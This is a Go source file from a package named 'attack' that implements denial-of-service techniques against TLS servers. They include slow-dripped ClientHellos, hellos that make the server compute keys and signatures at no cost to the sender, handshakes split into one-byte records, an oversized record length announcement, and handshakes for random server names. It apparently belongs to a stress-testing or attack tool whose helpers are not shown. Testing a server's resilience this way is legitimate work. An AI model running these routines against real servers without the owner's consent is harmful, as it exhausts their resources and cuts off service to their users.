package attack

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"strings"
)

func slowHello(ctx context.Context, a *attacker) error {
	hello := a.force.hello()
	return a.drip(ctx, hello[:len(hello)-1])
}

// hello leaves once it is answered: the server has then computed a key and a
// signature, and the attacker nothing.
func hello(ctx context.Context, a *attacker) error {
	if err := a.send(a.force.hello()); err != nil {
		return err
	}
	return a.await(ctx)
}

// A TLS record is a type, a version and a length of 2 bytes before what is in it.
const (
	recordHeader    = 5
	recordHandshake = 22
	recordData      = 23
)

func record(kind byte, content []byte) []byte {
	return append(binary.BigEndian.AppendUint16([]byte{kind, 3, 3}, uint16(len(content))), content...)
}

// fragments sends a hello in records of one byte each, which RFC 8446 allows.
func fragments(ctx context.Context, a *attacker) error {
	message := a.force.hello()[recordHeader:]
	pieces := make([]byte, 0, len(message)*(recordHeader+1))
	for i := range message {
		pieces = append(pieces, record(recordHandshake, message[i:i+1])...)
	}
	if err := a.send(pieces); err != nil {
		return err
	}
	return a.await(ctx)
}

// longRecord announces one that is four times as long as TLS allows.
func longRecord(_ context.Context, a *attacker) error {
	if err := a.send([]byte{recordHandshake, 3, 1, 0xff, 0xff, 1}); err != nil {
		return err
	}
	return a.stay()
}

// names makes a handshake for a name that nobody has asked for before.
func names(_ context.Context, a *attacker) error {
	config := a.force.target.forTLS.Clone()
	config.ServerName = strings.ToLower(rand.Text()) + ".example.com"
	if err := a.secure(config); err != nil {
		return err
	}
	return a.Close()
}

// agreedSuite makes a handshake.
func (t *target) agreedSuite(ctx context.Context) (suite uint16, err error) {
	ctx, stop := context.WithTimeout(ctx, patience)
	defer stop()
	raw, err := t.begin(ctx, t.source, 0)
	if err != nil {
		return 0, err
	}
	defer raw.Close()
	c := tls.Client(raw, t.forTLS)
	err = c.HandshakeContext(ctx)
	return c.ConnectionState().CipherSuite, err
}
